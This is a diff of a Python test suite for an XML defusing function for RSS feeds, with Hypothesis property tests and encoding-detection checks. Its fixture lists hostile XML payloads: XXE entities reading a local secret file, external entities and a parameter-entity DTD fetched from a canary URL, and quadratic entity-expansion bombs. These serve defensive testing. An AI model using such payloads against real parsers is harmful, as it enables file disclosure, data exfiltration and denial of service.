@@ -82,20 +82,16 @@ def hazards(canary_url: str, secret: Path) -> dict[str, bytes]:
         .replace("<!DOCTYPE", "<!doctype")
         .replace("<!ENTITY", "<!entity"),
         "quadratic-one-line": quadratic().replace("[\n", "[").replace("\n]", "]"),
-        "quadratic-entity-outside-doctype": rss(
-            f'<!ENTITY a "{"A" * 100_000}">', "&a;" * 20_000
-        ),
+        "quadratic-entity-outside-doctype": rss(f'<!ENTITY a "{"A" * 100_000}">', "&a;" * 20_000),
         "quadratic-expat-refuses": quadratic().replace("</channel>", "<broken></channel>"),
         "external-file": rss(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;"),
-        "external-http": rss(
-            f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{canary_url}/xxe">]>', "&xxe;"
-        ),
+        "external-http": rss(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{canary_url}/xxe">]>', "&xxe;"),
         "external-parameter-entity": rss(
             f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{canary_url}/dtd"> %p;]>', "&leak;"
         ),
         "external-dtd": rss(f'<!DOCTYPE rss SYSTEM "{canary_url}/rss.dtd">', "plain"),
         "quotes-and-brackets-in-subset": rss(
-            '<!DOCTYPE rss [<!-- ]> --><!ENTITY a "]>x\'"><!ENTITY b \'">\'>]>', "&a;&b;"
+            "<!DOCTYPE rss [<!-- ]> --><!ENTITY a \"]>x'\"><!ENTITY b '\">'>]>", "&a;&b;"
         ),
     }
     out = {name: text.encode("utf-8") for name, text in base.items()}
@@ -103,8 +99,8 @@ def hazards(canary_url: str, secret: Path) -> dict[str, bytes]:
         wide = base[name].replace('encoding="utf-8"', 'encoding="utf-16"')
         out[f"{name}-utf16le-bom"] = wide.encode("utf-16")  # BOM + little-endian here
         out[f"{name}-utf16be-nobom"] = wide.encode("utf-16-be")
-        out[f"{name}-utf32"] = base[name].replace('encoding="utf-8"', 'encoding="utf-32"').encode(
-            "utf-32"
+        out[f"{name}-utf32"] = (
+            base[name].replace('encoding="utf-8"', 'encoding="utf-32"').encode("utf-32")
         )
     return out
 
@@ -243,8 +239,20 @@ def test_no_declaration_survives_defuse(text: str, encoding: str) -> None:
     assert "<!entity" not in out.lower()
 
 
-@given(st.text(alphabet=st.characters(blacklist_characters="<&\x00"), max_size=200))
+@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="<&\x00"), max_size=200))
 def test_documents_without_declarations_keep_their_text(body: str) -> None:
-    doc = f"<?xml version='1.0' encoding='utf-16'?><rss><channel><title>{body}</title></channel></rss>"
+    doc = (
+        "<?xml version='1.0' encoding='utf-16'?>"
+        f"<rss><channel><title>{body}</title></channel></rss>"
+    )
     out = defuse(doc.encode("utf-16"))
     assert out.decode("utf-8") == doc.replace("'utf-16'", '"utf-8"')
+
+
+def test_the_http_charset_wins_over_the_declaration_but_not_the_bom() -> None:
+    doc = rss("", "Caf\u00e9").replace('encoding="utf-8"', 'encoding="utf-8"')
+    latin = doc.encode("latin-1")
+    assert "Caf\u00e9" in defuse(latin, "iso-8859-1").decode("utf-8")
+    assert detect_encoding(b"\xef\xbb\xbf<?xml", "iso-8859-1")[0] == "utf-8"
+    assert detect_encoding(b"<?xml", "zlib")[0] == "utf-8"  # not a text encoding: ignored
+    assert detect_encoding(b"<\x00?\x00", "UTF-16")[0] == "utf-16"
